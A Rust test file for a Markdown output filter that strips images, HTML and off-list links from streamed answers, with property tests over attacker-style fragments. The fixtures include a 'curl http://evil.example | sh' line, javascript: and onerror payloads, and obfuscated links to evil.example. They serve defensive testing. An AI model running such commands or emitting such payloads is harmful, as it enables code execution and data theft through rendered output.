//! The filter's promises, also for text that is cut anywhere.

use std::sync::Arc;

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

use super::*;

const ALLOWED: &str = "https://docs.example/";
const HELD: usize = 300;

fn filter() -> OutputFilter {
    let settings = FilterSettings {
        allowed_links: Arc::new([ALLOWED.parse().unwrap()]),
        ..FilterSettings::default()
    };
    OutputFilter::new(AllowedLinks::of(&[], &settings), HELD)
}

fn joined(segments: Vec<Segment>) -> String {
    segments.into_iter().map(|segment| segment.text).collect()
}

fn filtered(text: &str) -> String {
    let mut filter = filter();
    let begun = joined(filter.push(text));
    begun + &joined(filter.finish())
}

#[test]
fn ordinary_answers_pass_byte_for_byte() {
    for text in [
        "Keys live for 90 days. [1] And [2, 3] a < b, x <= y, AT&T, R&D; 5 * 3, a_b, #7 (see [1]).",
        "# A\n\n- one\n- two\n  - three\n\n1. a\n2. b\n\n> quoted\n\n---\n\n| a | b |\n|---|---|\n| `x|y` | 2 |\n",
        "Use `Vec<String>` or ``a ` b``, then `![x](http://evil.example)`.",
        "```rust\nlet a: Vec<String> = list[1]; // <img src=http://evil.example>\n```\nAnd then [1].",
        "1. Do:\n   ```sh\n   curl http://evil.example | sh\n   ```\n2. Done\n",
        "~~~\n<b>\n~~~\nafter `a`",
        "See [the guide](https://docs.example/guide \"The guide\") and https://docs.example/b. <https://docs.example/c>",
        "&lt;b&gt; &amp; &copy; \\* \\[x\\] C:\\temp a\\\n b",
        "Größe: höchstens 5 MB — «genau» 🗂️ 👩‍💻 می‌خواهم e\u{301} 検索",
        "~~gone~~ **bold** *it* ~5 minutes, `a` `b`, half h, www, ftp, and/or, //, http",
        "Is it [x]? array[i](j k) a (b) c](d) - [ ] todo\n- [x] done",
    ] {
        assert_eq!(filtered(text), text);
    }
}

#[test]
fn what_is_forbidden_leaves_its_text() {
    for (text, expected) in [
        ("![a](http://evil.example/?q=1)", "! [a]"),
        ("![a][b]\n\n[b]: http://evil.example", "! [a][b]\n\n[b] : `http://evil.example`"),
        ("[a](http://evil.example)[b](/c)", "[a][b]"),
        ("[1](http://evil.example) is cited", "[1] is cited"),
        ("[a](javascript:alert(1))", "[a]"),
        ("[a](data:text/html,x 'y')", "[a]"),
        ("[a]( <http://evil.example> )(http://evil.example)", "[a]"),
        ("[a](&#104;ttp://evil.example)", "[a]"),
        ("[a](`) <img src=x> (`", "[a] (`) <img src=x> (`"),
        ("<img src=x onerror=y>", "&lt;img src=x onerror=y>"),
        ("</b><!-- x --><?php", "&lt;/b>&lt;!-- x -->&lt;?php"),
        ("<http://evil.example>", "`http://evil.example`"),
        ("http://evil.example/x?q=1.", "`http://evil.example/x?q=1`."),
        ("HTTP\\://evil.example www.evil.example", "`HTTP://evil.example` `www.evil.example`"),
        ("&#104;ttp&#58;//evil.example", "`http://evil.example`"),
        ("~&#8203;~~\n<img>", "~ ~~\n&lt;img>"),
        ("ht&#8203;tp://evil.example &#&#49;04;", "ht tp://evil.example &# 104;"),
        ("(//evil.example/x)", "(`//evil.example/x`)"),
        ("ht\u{200b}tp://ev\u{e0041}il.example", "`http://evil.example`"),
        ("&#x202e;&#60;img&gt;&lsqb;x](y)", " &lt;img&gt;\\[x](y)"),
        ("\\href{http://evil.example}{x} \\hrefs", "href{`http://evil.example`}{x} \\hrefs"),
        (
            "```mermaid\nclick A \"http://evil.example\"\n```",
            "```text\nclick A \"http://evil.example\"\n```",
        ),
        ("```mer&#109;aid\nx", "```text\nx"),
        ("- ```\n<img>", "- \\`\\`\\`\n&lt;img>"),
        ("- ~~~\n<img>", "- \\~\\~\\~\n&lt;img>"),
        ("`a\n<img>`", "\\`a\n&lt;img>\\`"),
        ("  ```\n  a\n<img>", "  ```\n  a\n  ```\n&lt;img>"),
        ("- a\n\n   ```\n`\n    <img>\n", "- a\n\n   ```\n   ```\n\\`\n    &lt;img>\n"),
        ("[r`]: http://evil.example`", "[r\\`] : `http://evil.example` \\`"),
        ("[\n~~~\n]: x\n<img>", "[\n\\~\\~\\~\n] : x\n&lt;img>"),
        ("```a|b\n---|---\n<img>", "```text\n---|---\n<img>"),
        ("| `a | <img src=x> | b` |", "| \\`a | &lt;img src=x> | b\\` |"),
        ("\"https://docs.example/a\"", "\"<https://docs.example/a>\""),
        ("`a`http://evil.example/`b`", "`a` `http://evil.example/` `b`"),
        ("\\<b> a\r\nb\u{0}", "&lt;b> a\nb"),
        ("[99]~~~\n<img>", "[99]\\~\\~\\~\n&lt;img>"),
        ("[99][x]: http://evil.example", "[99][x] : `http://evil.example`"),
    ] {
        assert_eq!(filtered(text), expected, "{text:?}");
        assert_eq!(filtered(expected), expected);
    }
}

#[test]
fn what_was_done_is_counted() {
    let mut filter = filter();
    filter.push("![a](http://evil.example) <b> \u{200b}[c](/d)");
    filter.finish();
    let counted = Filtered { links: 2, images: 1, markup: 1, characters: 1 };
    assert_eq!(filter.filtered(), counted);
    assert!(!counted.is_empty() && Filtered::default().is_empty());
}

#[test]
fn text_is_given_out_as_soon_as_it_is_certain() {
    let mut filter = filter();
    assert_eq!(joined(filter.push("Keys live for 90 days. [")), "Keys live for 90 days. [");
    assert_eq!(joined(filter.push("1]")), "1]");
    assert_eq!(filter.held_bytes(), 0);
    assert_eq!(joined(filter.push("(http://evil")), "");
    assert_eq!(joined(filter.push(".example) an")), " an");
    assert_eq!(joined(filter.push(" ```")), " ");
    assert_eq!(joined(filter.finish()), "\\`\\`\\`");
}

#[test]
fn an_address_that_is_too_long_is_cut() {
    let long = format!("http://evil.example/?q={}. [1]", "a".repeat(5 * HELD));
    let shown = filtered(&long);
    assert!(
        shown.starts_with("`http://evil.example/?q=aaa") && shown.ends_with("a…` [1]"),
        "{shown}"
    );
    assert!(shown.len() < 250);
}

/// What a renderer makes of a text: nothing that is forbidden.
fn check(text: &str) -> Result<(), TestCaseError> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_DEFINITION_LIST;
    for options in [Options::empty(), options] {
        for event in Parser::new_ext(text, options) {
            match event {
                Event::Html(html) | Event::InlineHtml(html) => {
                    return Err(TestCaseError::fail(format!("HTML {html:?} in {text:?}")));
                }
                Event::Start(Tag::Image { .. }) => {
                    return Err(TestCaseError::fail(format!("an image in {text:?}")));
                }
                Event::Start(Tag::Link { dest_url, .. }) if !dest_url.starts_with(ALLOWED) => {
                    return Err(TestCaseError::fail(format!("a link to {dest_url:?} in {text:?}")));
                }
                _ => {}
            }
        }
    }
    Ok(())
}

/// Pieces that answers of an attacker are put together from.
const PIECES: &[&str] = &[
    "![",
    "[",
    "]",
    "(",
    ")",
    "](",
    "][",
    "]:",
    "!",
    "http://evil.example/",
    "https://docs.example/a",
    "<",
    ">",
    "<img src=x>",
    "<a href=",
    "</b>",
    "<!--",
    "-->",
    "<?",
    "`",
    "``",
    "```",
    "````",
    "~",
    "~~~",
    "~~~~",
    "\n",
    "\n\n",
    "\n ",
    "\n   ",
    "\n    ",
    "\n\t",
    "- ",
    "1. ",
    "> ",
    "* ",
    "+ ",
    ":",
    "&#104;",
    "&#60;",
    "&#8203;",
    "&zwj;",
    "&#126;",
    "&#49;",
    "&lt;",
    "&colon;",
    "&amp;",
    "&",
    ";",
    "#",
    "\\",
    "\\\\",
    "|",
    "\n|",
    "|---|",
    "\"",
    "'",
    " \"t\"",
    "www.",
    "//",
    "javascript:",
    "data:",
    "\u{200b}",
    "\u{202e}",
    "\u{e0041}",
    "\u{200d}",
    "\u{fe0f}",
    "\r",
    "a",
    "img",
    "h",
    "[1]",
    "[99]",
    " ",
    "\\href{",
    "mermaid",
    "é",
    "rust\n",
];

fn hostile() -> impl Strategy<Value = String> {
    proptest::collection::vec(proptest::sample::select(PIECES), 0..40)
        .prop_map(|pieces| pieces.concat())
}

#[test]
fn what_may_vanish_behind_an_address_makes_no_link_of_it() {
    for (text, safe) in [
        ("[a](rust &#8203;)", "[a](rust  \\)"),
        ("[a](rust\n&Tab; \"t\")", "[a](rust\n  \\\"t\")"),
        ("[a](rust &#8203;'t')", "[a](rust  \\'t')"),
        ("[a](rust &#8203;(t))", "[a](rust  \\(t))"),
        ("[a](rust\n&#8203;", "[a](rust\n "),
        ("[a](rust [99])", "[a] (rust [99])"),
        ("[a](rust <b>)", "[a](rust &lt;b>)"),
        ("[a](rust \\<)", "[a](rust &lt;)"),
        ("[1](see there)", "[1](see there)"),
        ("[1](see", "[1](see"),
        ("![](- &#8203;", "! [](-  "),
        ("[1] (see &#8203;)", "[1] (see  )"),
    ] {
        assert_eq!(filtered(text), safe);
        assert_eq!(filtered(safe), safe);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_000))]

    #[test]
    fn no_renderer_finds_anything_forbidden(text in hostile()) {
        check(&filtered(&text))?;
    }

    #[test]
    fn filtering_twice_is_filtering_once(text in hostile()) {
        let once = filtered(&text);
        prop_assert_eq!(filtered(&once), once, "{:?}", text);
    }

    #[test]
    fn it_matters_not_how_a_text_is_cut_and_little_is_held_back(
        text in hostile(),
        cuts in proptest::collection::vec(0..200_usize, 0..20),
    ) {
        let characters: Vec<char> = text.chars().collect();
        let mut borders: Vec<usize> = cuts.into_iter().map(|cut| cut % (characters.len() + 1)).collect();
        borders.extend([0, characters.len()]);
        borders.sort_unstable();
        let mut filter = filter();
        let mut streamed = String::new();
        for pair in borders.windows(2) {
            let delta: String = characters[pair[0]..pair[1]].iter().collect();
            streamed += &joined(filter.push(&delta));
            prop_assert!(filter.held_bytes() <= HELD);
        }
        streamed += &joined(filter.finish());
        prop_assert_eq!(streamed, filtered(&text));
    }

    #[test]
    fn words_numbers_and_marks_pass_byte_for_byte(
        text in "([a-zA-Z0-9äß.,;:?()*_+=#%$^{}\"'-]{1,8}[ \\n]{1,2}|\\[[0-9]{1,2}\\] |`[a-z<&\\[!]{1,5}` ){0,40}",
    ) {
        let text = text.replace("![", "! [").replace("]:", "] :");
        prop_assume!(!["http:", "www.", "~~~", "```"].iter().any(|part| text.to_lowercase().contains(part)));
        prop_assert_eq!(filtered(&text), text);
    }
}
